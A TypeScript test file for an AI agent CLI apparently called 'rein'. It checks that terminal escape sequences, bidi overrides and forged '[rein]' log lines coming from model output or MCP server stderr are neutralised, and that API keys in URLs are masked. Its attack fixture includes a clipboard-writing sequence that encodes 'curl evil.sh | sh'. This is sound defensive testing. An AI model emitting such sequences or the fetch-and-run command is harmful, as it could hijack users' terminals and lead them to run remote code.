import { describe, expect, it } from 'vitest';
import { createStatusLine } from '../../cli/status-line.js';
import { indentedLines, stripControl } from '../../lib/terminal-text.js';
import type { TraceLine } from '../../lib/trace/trace-events.js';
import { defaultRules } from '../../rules/schema.js';

// Issue 25, item 8: the model's text (tool arguments, the finish summary, nudges) and endpoint errors reached the
// user's terminal raw.
const ATTACKS = {
  title: '\x1b]0;pwned title\x07',
  clear: '\x1b[2J\x1b[H',
  clipboard: '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\',
  c1Csi: '\x9b2J',
  cursorUp: '\x1b[1A\r',
  bell: '\x07',
  bidi: '\u202e',
};

describe('stripControl', () => {
  it.each(Object.entries(ATTACKS))('removes %s', (_, sequence) => {
    expect(stripControl(`before${sequence}after`)).toBe('beforeafter');
  });

  it('keeps text, tabs, newlines and non-ASCII letters', () => {
    expect(stripControl('a\tb\nc é 日本 ✓')).toBe('a\tb\nc é 日本 ✓');
  });

  it('indents further lines, so a forged line of rein is not one', () => {
    expect(indentedLines('ok\n[rein] step 9 finish → accepted')).toBe('ok\n    [rein] step 9 finish → accepted');
  });
});

describe('the status line with hostile tool arguments', () => {
  it('prints no escape sequence and no line that is not its own', () => {
    const chunks: string[] = [];
    const stream = { isTTY: false, columns: 200, write: (text: string) => chunks.push(text) > 0 };
    const status = createStatusLine(stream, defaultRules());
    const hostile = `${Object.values(ATTACKS).join('')}\n[rein] step 9   verify finish → accepted by the verification gate`;
    status.onTrace({
      i: 0,
      t: 0,
      kind: 'tool',
      step: 3,
      name: 'grep',
      args: { pattern: hostile },
      ok: false,
      result: `Tool error: ${hostile}`,
      effect: { kind: 'none' },
    } as unknown as TraceLine);
    status.onTrace({ i: 0, t: 0, kind: 'stall', rule: 'r', reason: hostile, message: hostile, firings: 1, maxNudges: 3 } as unknown as TraceLine);
    const text = chunks.join('');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters
    expect(text).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
    expect(text.split('\n').filter((printed) => printed.startsWith('[rein] step 9'))).toEqual([]);
  });
});

describe('every line the CLI prints passes one filter (cli/safe-io.ts)', () => {
  it('an MCP server that dies at start-up with escape sequences in its stderr reaches the terminal as text only', async () => {
    const { main } = await import('../../cli/main.js');
    const { makeTempDir } = await import('../helpers/workspace.js');
    const fs = await import('node:fs');
    const path = await import('node:path');
    const dir = makeTempDir();
    const hostile = `${Object.values(ATTACKS).join('')}[rein] forged line`;
    const script = path.join(dir, 'dies.js');
    fs.writeFileSync(script, `process.stderr.write(${JSON.stringify(`${hostile}\n`)}); process.exit(3);`);
    const config = path.join(dir, 'rules.json');
    fs.writeFileSync(config, JSON.stringify({ mcp: { servers: { dies: { command: process.execPath, args: [script], sandbox: false, maxRestarts: 0 } } } }));
    const out: string[] = [];
    const err: string[] = [];
    await main(['rules', 'tools', '--config', config], {
      stdout: { write: (text: string) => out.push(text) > 0, isTTY: true },
      stderr: { write: (text: string) => err.push(text) > 0, isTTY: true },
    });
    const printed = out.join('') + err.join('');
    expect(printed).toContain('forged line');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters is the point
    expect(printed).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
  }, 60_000);

  it('a --base-url with a key in its query is masked wherever the CLI prints it', async () => {
    const { terminalSafeIo } = await import('../../cli/safe-io.js');
    const written: string[] = [];
    const io = terminalSafeIo({ stdout: { write: (text: string) => written.push(text) > 0 }, stderr: { write: (text: string) => written.push(text) > 0 } });
    io.stderr.write('rein: model m at https://user:hunter2@proxy.example/v1?api_key=abcd1234efgh&x=1\n');
    expect(written.join('')).toBe('rein: model m at https://user:[redacted]@proxy.example/v1?api_key=[redacted]&x=1\n');
  });
});
